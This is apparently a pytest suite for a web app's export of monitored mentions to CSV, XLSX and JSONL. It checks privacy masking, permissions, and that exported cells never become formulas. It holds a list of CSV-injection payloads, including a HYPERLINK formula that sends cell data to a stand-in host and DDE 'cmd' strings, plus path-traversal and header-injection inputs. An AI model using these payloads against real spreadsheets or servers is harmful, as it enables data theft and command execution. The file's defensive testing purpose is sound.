"""Taking a list away: just what is shown, harmless in a spreadsheet, without anyone's name."""

from __future__ import annotations

import csv
import io
import json
import tempfile
from pathlib import Path

import httpx
import openpyxl
import pytest
from msgspec.structs import replace

from pipeline.exporting import COLUMNS
from sinks.sqlite.store import SqliteStore
from tests.desk.examples import TOWN
from tests.webapp.browsing import browsing
from tests.webapp.records import read, record
from vigie.actor import Actor
from vigie.batch import Batch
from vigie.clock import HeldClock
from vigie.judgement import Label
from vigie.post import Author, Source
from vigie.record import Record
from webapp.log_of_acts import acts

OTHER = replace(TOWN, slug="autre-ville", name="Autre-Ville")
FORMS = ("csv", "xlsx", "jsonl")
# OWASP, CSV Injection; and what breaks a line, a cell or a workbook.
INJECTED = [
    "=1+1",
    '=HYPERLINK("http://mal.example?x="&A1,"clic")',
    "+33",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "|calc",
    "%0A=1",
    ";=1+1",
    ",=1+1",
    '";=1+1;"',
    "a\n=1+1",
    "\x00\x08=1",
    "http://mal.example/lien",
    "\ud800",
    "x" * 40_000,
]


async def take(client: httpx.AsyncClient, form: str, question: str = "") -> httpx.Response:
    return await client.get(f"/mentions/export.{form}{question}")


def rows(answer: httpx.Response, form: str, delimiter: str = ";") -> list[dict[str, object]]:
    """The mentions of a file, by column; its heading is checked and left out."""
    assert answer.status_code == 200
    if form == "jsonl":
        first, *others = answer.text.splitlines()
        assert set(json.loads(first)) == {"vigie_export"}
        return [json.loads(line) for line in others]
    if form == "csv":
        text = answer.content.decode("utf-8-sig")
        heading, names, *cells = csv.reader(io.StringIO(text), delimiter=delimiter)
        assert len(heading) == 1
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        heading, names, *cells = [[c.value for c in row] for row in sheet.iter_rows()]
        assert heading[1:] == [None] * (len(COLUMNS) - 1)
    assert heading[0].startswith("Vigie, export")
    assert tuple(names) == COLUMNS
    return [dict(zip(names, row, strict=True)) for row in cells]


async def keep(store: SqliteStore, *records: Record) -> None:
    await store.write(Batch(records=records))


@pytest.mark.parametrize("form", FORMS)
async def test_a_file_holds_just_what_is_shown_in_its_order(
    client: httpx.AsyncClient, store: SqliteStore, form: str
) -> None:
    snow = {"topic": Label("snow", 0.9)}
    await keep(
        store,
        record("neige une", ago=3, **snow),
        record("neige deux", ago=2, **snow),
        record("neige d’un autre sujet"),
        record("neige ancienne", ago=24 * 40, **snow),
    )
    answer = await take(client, form, "?q=neige&topic=snow&order=oldest")
    assert [row["text"] for row in rows(answer, form)] == ["neige une", "neige deux"]
    assert {row["topic"] for row in rows(answer, form)} == {"snow"}


async def test_all_its_pages_are_in_it_and_not_the_page_that_was_shown(
    client: httpx.AsyncClient, store: SqliteStore
) -> None:
    await keep(store, *(record(f"n{n}", ago=1 + n / 1000) for n in range(1_203)))
    shown = read((await client.get("/mentions")).text)
    (older,) = shown.all("a", rel="next")
    second = read((await client.get(older.attributes["href"])).text)
    (link,) = [a for a in second.all("a") if a.text == "CSV"]
    assert link.attributes["href"] == "/mentions/export.csv"
    found = rows(await take(client, "csv"), "csv")
    assert [row["text"] for row in found] == [f"n{n}" for n in range(1_203)]


@pytest.mark.parametrize("form", FORMS)
async def test_the_heading_says_what_was_asked_and_when(
    client: httpx.AsyncClient, store: SqliteStore, form: str
) -> None:
    await keep(store, record("neige", topic=Label("snow", 0.9)))
    answer = await take(client, form, "?q=neige&topic=snow&du=2026-11-01")
    said = "Vigie, export du lundi 23 novembre à 9\u00a0h ; 1 mention ; demandé : "
    asked = "neige ; Sujet : déneigement et glace ; depuis le dimanche 1er novembre"
    if form == "jsonl":
        head = json.loads(answer.text.splitlines()[0])["vigie_export"]
        assert head["question"] == "q=neige&topic=snow&du=2026-11-01"
        assert head["at"] == "2026-11-23T09:00:00-05:00"
        heading = head["said"]
    elif form == "csv":
        heading = next(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))[
            0
        ]
    else:
        heading = openpyxl.load_workbook(io.BytesIO(answer.content)).active["A1"].value
    plain = heading.replace("\u00a0", " ").replace("\u202f", " ")
    assert plain == said.replace("\u00a0", " ") + asked


@pytest.mark.parametrize("text", INJECTED)
async def test_no_cell_is_a_formula_a_link_or_a_broken_line(
    client: httpx.AsyncClient, store: SqliteStore, text: str
) -> None:
    post = {"title": text, "url": text, "source": Source(kind="feed", name=text)}
    await keep(store, record(text, post=post), record("témoin", ago=0.5))
    for row in rows(await take(client, "csv"), "csv"):
        for value in row.values():
            assert (
                not str(value).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "|"))
            )
    book = openpyxl.load_workbook(io.BytesIO((await take(client, "xlsx")).content))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert len(rows(await take(client, "xlsx"), "xlsx")) == 2
    exact = rows(await take(client, "jsonl"), "jsonl")
    kept = text.replace("@SUM", "[compte masqué]")  # it looks like an account
    assert exact[1]["text"] == kept.encode("utf-8", "replace").decode()


@pytest.mark.parametrize("form", FORMS)
async def test_nobody_is_in_it(client: httpx.AsyncClient, store: SqliteStore, form: str) -> None:
    text = "Écrire à jeanne@exemple.example ou 819 555-0199, dit @jeanne_fictive. Ou le 311."
    author = Author(pseudonym="residente_fictive_7")
    await keep(store, record(text, post={"author": author, "native_id": "compte-secret"}))
    answer = await take(client, form)
    ((row),) = rows(answer, form)
    assert row["text"] == (
        "Écrire à [courriel masqué] ou [téléphone masqué], dit [compte masqué]. Ou le 311."
    )
    for kept_out in ("residente_fictive", "compte-secret"):
        assert kept_out not in str(row)
    assert not {"author", "pseudonym", "native_id"} & set(row)


@pytest.mark.parametrize(
    "form", ["exe", "csv.exe", "..%2f..%2fetc%2fpasswd", "csv%0d%0aX: y", "CSV"]
)
async def test_another_form_does_not_exist(client: httpx.AsyncClient, form: str) -> None:
    answer = await take(client, form)
    assert answer.status_code == 404
    assert "X" not in answer.headers


@pytest.mark.parametrize("form", FORMS)
async def test_nothing_typed_is_in_the_name_or_the_headers(
    client: httpx.AsyncClient, form: str
) -> None:
    typed = "neige\r\nSet-Cookie: a=b; filename=../../etc/passwd"
    answer = await client.get(f"/mentions/export.{form}", params={"q": f'"{typed}"', "du": typed})
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="vigie-2026-11-23.{form}"'
    )
    assert "passwd" not in str(answer.headers)
    assert "set-cookie" not in answer.headers
    assert answer.headers["x-content-type-options"] == "nosniff"


async def test_a_list_too_long_says_so_and_what_to_do(
    client: httpx.AsyncClient, store: SqliteStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("webapp.searches.export_page.MOST", 2)
    await keep(store, record("a"), record("b"), record("c", ago=24 * 20))
    assert len(rows(await take(client, "csv"), "csv")) == 2
    answer = await take(client, "csv", "?period=30d")
    assert answer.status_code == 413
    (told,) = read(answer.text).all("div", role="alert")
    assert "compte 3 mentions et un fichier en prend 2 au plus" in told.text
    assert len(await acts(store)) == 1  # of the first, and none of the second


async def test_a_list_not_understood_is_told_on_its_page(client: httpx.AsyncClient) -> None:
    answer = await take(client, "csv", "?q=(neige")
    assert answer.status_code == 400
    assert read(answer.text).all("div", role="alert")


async def test_an_officer_may_and_a_reader_may_not_and_is_offered_nothing(
    store: SqliteStore, clock: HeldClock
) -> None:
    await keep(store, record("a"))
    async with browsing(store, clock, Actor(name="lea", role="reader")) as reader:
        assert (await take(reader, "csv")).status_code == 403
        assert "export.csv" not in (await reader.get("/mentions")).text
    async with browsing(store, clock, Actor(name="amelie", role="officer")) as officer:
        assert "export.csv" in (await officer.get("/mentions")).text
        await take(officer, "csv", "?q=a")
    (noted,) = await acts(store)
    assert (noted.act.by, noted.act.what) == ("amelie", "exported")
    assert noted.act.detail == {"form": "csv", "mentions": "1"}


async def test_a_file_holds_the_towns_of_who_asks(store: SqliteStore, clock: HeldClock) -> None:
    await keep(store, record("ici"), record("là", town=OTHER))
    actor = Actor(name="cl", role="officer", towns=(TOWN.slug,))
    async with browsing(store, clock, actor, (TOWN, OTHER)) as client:
        found = rows(await take(client, "csv", "?town=autre-ville&town=ville-fictive"), "csv")
    assert [row["text"] for row in found] == ["ici"]


async def test_english_columns_are_cut_by_commas(
    client: httpx.AsyncClient, store: SqliteStore
) -> None:
    await keep(store, record("a; b"))
    answer = await take(client, "csv", "?lang=en")
    assert [row["text"] for row in rows(answer, "csv", ",")] == ["a; b"]


async def test_a_workbook_leaves_no_file_behind(
    client: httpx.AsyncClient, store: SqliteStore, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    await keep(store, record("a"))
    before = held(tmp_path)
    await take(client, "xlsx")
    assert held(tmp_path) == before


def held(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}
